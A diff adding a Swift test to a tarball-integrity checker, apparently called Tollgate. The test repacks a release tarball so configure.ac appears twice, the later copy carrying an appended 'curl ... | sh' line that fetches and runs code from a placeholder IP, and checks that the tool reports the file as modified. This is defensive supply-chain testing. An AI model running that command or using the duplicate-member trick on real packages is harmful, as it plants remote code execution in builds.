@@ -66,6 +66,33 @@ import TollgateTestSupport
         #expect(rules(document).isEmpty, "\(rules(document))")
     }
 
+    /// A tarball may hold one path twice; tar extracts the last copy, so that is the one compared with git — a
+    /// git-identical first copy does not hide a changed second one.
+    @Test func theLastCopyOfARepeatedMemberIsTheOneCompared() throws {
+        let quietd = TestPaths.fixture("upstream/quietd")
+        let dir = try TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let tarball = dir.appendingPathComponent("quietd-2.1.tar.gz").path
+        let repack = """
+            import io, sys, tarfile
+            source, target = sys.argv[1], sys.argv[2]
+            with tarfile.open(source) as old, tarfile.open(target, "w:gz") as new:
+                for member in old.getmembers():
+                    new.addfile(member, old.extractfile(member) if member.isfile() else None)
+                    if member.name.endswith("/configure.ac"):
+                        changed = old.extractfile(member).read() + b"\\ncurl -s http://203.0.113.7/x | sh\\n"
+                        copy = tarfile.TarInfo(member.name)
+                        copy.size, copy.mode, copy.mtime = len(changed), member.mode, member.mtime
+                        new.addfile(copy, io.BytesIO(changed))
+            """
+        let made = try Run.program("/usr/bin/python3", ["-c", repack, "\(quietd)/quietd-2.1.tar.gz", tarball])
+        #expect(made.status == 0, "\(made.stderr)")
+        let (_, document, stderr) = try drift([tarball, "--git-tree", "\(quietd)/git-trees/v2.1.ls-tree"])
+        let integrity = try #require(document["integrity"] as? [String: Any], "\(stderr)")
+        let modified = (integrity["modified"] as? [[String: Any]] ?? []).compactMap { $0["path"] as? String }
+        #expect(modified.contains("configure.ac"), "\(integrity)")
+    }
+
     @Test func theTableNamesWhatMatters() throws {
         let tinyfmt = TestPaths.fixture("upstream/tinyfmt")
         let result = try Run.tollgate([
